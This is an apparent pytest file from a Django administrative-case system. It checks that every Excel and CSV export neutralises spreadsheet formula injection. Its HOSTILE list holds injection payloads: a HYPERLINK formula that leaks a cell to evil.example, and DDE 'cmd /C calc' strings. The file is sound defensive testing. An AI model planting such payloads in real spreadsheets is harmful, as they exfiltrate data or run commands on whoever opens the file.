"""Every export to Excel or CSV neutralises formulas (issue 15, Build 3).

Each export is fed values an attacker can plant (a party's name, a case title, a failed
login's user name and browser string, a 双公示 field, a power item's wording, a report's
narrative) and its file is read back as a spreadsheet program would: no cell may be a
formula, and no text may start with ``= + - @``, a tab or a carriage return.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from sanxiang.agencies import excel
from sanxiang.agencies.models import Credential
from sanxiang.agencies.services import powers as power_services
from sanxiang.agencies.tests.factories import DomainFactory, power_content
from sanxiang.agencies.views.security import _csv
from sanxiang.api import shuanggongshi
from sanxiang.cases.tests.factories import (
    PowerItemFactory,
    open_case,
    person,
    qualified_officer_user,
    qualify,
)
from sanxiang.core.audit import Kind, record_security_event
from sanxiang.core.models import SecurityEvent
from sanxiang.core.spreadsheets import FORMULA_STARTS, neutralise, restore
from sanxiang.supervision.annual import exports as annual_exports
from sanxiang.supervision.annual import services as annual_services

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def _cells_of_workbook(data: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                values.append(cell.value)
    return values


def _cells_of_csv(data: bytes) -> list[object]:
    text = data.decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


def _assert_inert(values: list[object], planted: str) -> None:
    texts = [v for v in values if isinstance(v, str)]
    assert any(planted.strip() in t for t in texts), "the hostile value did not reach the file"
    for text in texts:
        assert not text.lstrip(" ").startswith(FORMULA_STARTS), repr(text)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_helper_neutralises_and_the_importer_restores(value):
    assert not neutralise(value).lstrip(" ").startswith(FORMULA_STARTS)
    assert restore(neutralise(value)) == value
    assert neutralise("万新街") == "万新街" and neutralise(-3) == -3 and neutralise(None) is None


@pytest.fixture
def urban(db):
    return DomainFactory()


@pytest.fixture
def hostile_case(wanxin, urban, officer):
    qualify(officer, urban)
    partner = qualified_officer_user(wanxin, urban, "partner")
    item = PowerItemFactory(agency=wanxin, domain=urban)
    Credential.objects.update(valid_from=dt.date(2020, 1, 1))
    return open_case(
        officer, item, partner, parties=[person(name=HOSTILE[0])], title=HOSTILE[3],
        filed_on=dt.date(2025, 3, 3),
    )  # fmt: skip


def test_the_case_register_cannot_inject(client, hostile_case, officer):
    client.force_login(officer)
    response = client.get(reverse("workbench:cases"), {"format": "xlsx"})
    assert response.status_code == 200
    values = _cells_of_workbook(response.content)
    _assert_inert(values, HOSTILE[0])
    _assert_inert(values, HOSTILE[3])


def test_the_security_events_csv_cannot_inject(db):
    for value in HOSTILE:
        record_security_event(kind=Kind.LOGIN_FAILED, username=value, detail={"note": value})
    response = _csv(SecurityEvent.objects.order_by("pk"))
    values = _cells_of_csv(response.content)
    for value in HOSTILE:
        _assert_inert(values, value)


@pytest.mark.parametrize("render", [shuanggongshi.to_csv, shuanggongshi.to_xlsx])
def test_the_shuanggongshi_exports_cannot_inject(render):
    export = shuanggongshi.Export(kind=shuanggongshi.PENALTY, since=dt.date(2026, 1, 1))
    row = {code: HOSTILE[i % len(HOSTILE)] for i, code in enumerate(export.columns)}
    export.rows.append(row)
    export.problems.append(shuanggongshi.Problem(HOSTILE[1], "cf_nr", HOSTILE[2]))
    data = render(export)
    values = _cells_of_csv(data) if render is shuanggongshi.to_csv else _cells_of_workbook(data)
    for value in HOSTILE:
        _assert_inert(values, value)


def test_the_power_list_cannot_inject_and_still_imports_unchanged(agency_admin, wanxin, urban):
    power_services.establish_power_item(
        actor=agency_admin, agency=wanxin, reason="设立", effective_on=dt.date(2026, 3, 2),
        approver="主任办公会",
        content=power_content(procedure=HOSTILE[0], remedy=HOSTILE[2], time_limit=HOSTILE[3]),
    )  # fmt: skip
    data = excel.write_workbook(agency=wanxin)
    values = _cells_of_workbook(data)
    for value in (HOSTILE[0], HOSTILE[2], HOSTILE[3]):
        _assert_inert(values, value)
    plan = excel.read_workbook(
        io.BytesIO(data), agency=wanxin, reason="年度调整", effective_on=dt.date(2026, 3, 2),
        approver="主任办公会",
    )  # fmt: skip
    assert plan.problems == [] and plan.changes == []


def test_the_annual_report_tables_cannot_inject(hostile_case, head, wanxin):
    report = annual_services.generate_report(actor=head, agency=wanxin, year=2025)
    annual_services.save_narrative(actor=head, report=report, narrative="\n".join(HOSTILE))
    report.refresh_from_db()
    values = _cells_of_workbook(annual_exports.to_xlsx(report))
    for value in HOSTILE[:5]:
        _assert_inert(values, value)
